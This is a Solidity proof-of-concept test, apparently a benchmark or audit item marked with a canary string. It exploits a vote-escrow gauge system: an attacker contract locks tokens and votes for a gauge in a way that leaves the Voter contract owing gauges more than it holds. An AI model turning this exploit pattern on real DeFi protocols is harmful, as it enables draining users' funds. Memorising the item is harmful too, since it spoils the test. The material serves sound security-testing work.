// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-48e9535b-ccf6-4b43-98e5-c5dec91c543b
import "../Base.sol";

contract Attacker {
    function run(TideToken token, VotingEscrow escrow, Voter voter, address gauge) external {
        voter.minter().updateEpoch();
        token.approve(address(escrow), type(uint256).max);
        uint256 id = escrow.createLock(1_000e18, 104 weeks, address(this));
        address[] memory choices = new address[](1);
        uint256[] memory shares = new uint256[](1);
        (choices[0], shares[0]) = (gauge, 1);
        voter.vote(id, choices, shares);
    }

    function onERC721Received(address, address, uint256, bytes calldata) external pure returns (bytes4) {
        return this.onERC721Received.selector;
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
        tide.transfer(address(other), 1_000e18);
    }

    function exploit() public {
        other.run(tide, escrow, voter, address(gaugeB));
    }

    function test_Exploit() public {
        exploit();
        require(!solvent(), "pays what it owes");
    }

    /// Whether the voter holds what it owes to the gauges.
    function solvent() public view returns (bool) {
        uint256 owed = voter.unassigned();
        for (uint256 i = 0; i < voter.gaugeCount(); i++) {
            owed += voter.owedTo(voter.gauges(i));
        }
        return owed <= tide.balanceOf(address(voter));
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
